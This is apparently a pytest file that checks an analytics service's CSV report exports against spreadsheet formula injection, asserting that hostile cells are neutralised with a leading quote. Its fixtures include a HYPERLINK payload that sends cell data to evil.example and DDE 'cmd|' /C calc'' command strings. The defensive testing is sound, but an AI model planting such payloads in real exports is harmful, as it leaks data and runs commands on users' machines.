"""Every report's CSV is safe to open in a spreadsheet (OWASP CSV injection), on both databases.

Hostile text reaches reports through event_data (trends breakdown values, the timeline's
event data) and through request logs (endpoints and methods of rows stored before methods
were bounded). A cell that starts with =, +, -, @, tab or CR is written with a leading
single quote; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from app.extensions import db
from app.models import User
from app.services.insights.csv_export import cell, to_csv
from tests.insights_data import BERLIN, URL, add_user, event, log

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "-5",
]
DAY = "2026-03-30"
RANGE = {"tz": BERLIN, "from": "2026-03-23", "to": "2026-04-01"}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value.startswith(TRIGGERS):
                float(value)  # only a real number may start with "-" (or "+")


def _hostile_rows(data: dict[str, Any]) -> None:
    user = db.session.get(User, data["u1"])
    for value in HOSTILE:
        event(user, "video_started", f"{DAY}T09:00:00Z", {"video_id": value})
    evil = add_user("evil")
    # Rows written before methods were bounded (or by another client of the table).
    log(evil, "=cmd|' /C calc'!A0", "=1+1", 200, 5.0, f"{DAY}T10:00:00Z")
    log(evil, "@SUM(A1)", "-GET", 500, 7.0, f"{DAY}T10:01:00Z")
    db.session.commit()
    data["evil"] = evil.id


def _csv(client: Any, data: dict[str, Any], path: str, method: str = "GET", **kw: Any) -> str:
    r = client.open(
        f"{URL}/{path}",
        method=method,
        headers=data["admin"],
        query_string={"format": "csv", **kw.pop("query", {})},
        **kw,
    )
    assert r.status_code == 200 and r.mimetype == "text/csv", r.get_data(as_text=True)
    return r.get_data(as_text=True)


def test_every_report_csv_neutralizes_formula_cells(app, client, data):
    with app.app_context():
        _hostile_rows(data)
    outputs = {
        "trends": _csv(client, data, "trends", query={
            "event_type": "video_started", "breakdown": "video_id", "tz": BERLIN,
            "from": DAY, "to": DAY}),
        "active-users": _csv(client, data, "active-users", query=RANGE),
        "challenge-progress": _csv(client, data, "challenge-progress",
                                   query={"challenge_id": data["challenge_id"], **RANGE}),
        "funnels": _csv(client, data, "funnels", method="POST", query=RANGE, json={"steps": [
            {"event_type": "video_started", "where": {"video_id": HOSTILE[0]}},
            {"event_type": "plan_viewed"},
        ]}),
        "retention": _csv(client, data, "retention", query={
            "start_event": "app_opened", "return_event": "app_opened", **RANGE}),
        "api-health": _csv(client, data, "api-health", query={"from": DAY, "to": DAY}),
        "user-timeline": _csv(client, data, "user-timeline", query={"user_id": data["evil"]}),
        "realtime": _csv(client, data, "realtime"),
    }
    for name, text in outputs.items():
        rows = _cells(text)
        assert len(rows) >= 2, name
        _assert_safe(rows)
    trends = {row[2] for row in _cells(outputs["trends"])[1:]}
    assert {"'" + v for v in HOSTILE} <= trends, trends
    health = {(row[0], row[1]) for row in _cells(outputs["api-health"])[1:]}
    assert ("'=cmd|' /C calc'!A0", "'=1+1") in health
    assert ("'@SUM(A1)", "'-GET") in health
    timeline = {(row[5], row[6]) for row in _cells(outputs["user-timeline"])[1:]}
    assert timeline == {("'=cmd|' /C calc'!A0", "'=1+1"), ("'@SUM(A1)", "'-GET")}


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not():
    class Result:
        def csv_rows(self) -> list[list[Any]]:
            return [["n", "x", "d", "text", "flag", "none"],
                    [-3, -0.25, Decimal("-1.5"), "-3", True, None]]

    assert to_csv(Result()).splitlines()[1] == "-3,-0.25,-1.5,'-3,true,"
    assert cell("=1,2") == "'=1,2"
    # A crafted value with a delimiter stays one (quoted) cell.
    assert _cells(to_csv(type("R", (), {"csv_rows": lambda self: [["=1,\"2\"\n", 1]]})()))[0] \
        == ["'=1,\"2\"\n", "1"]
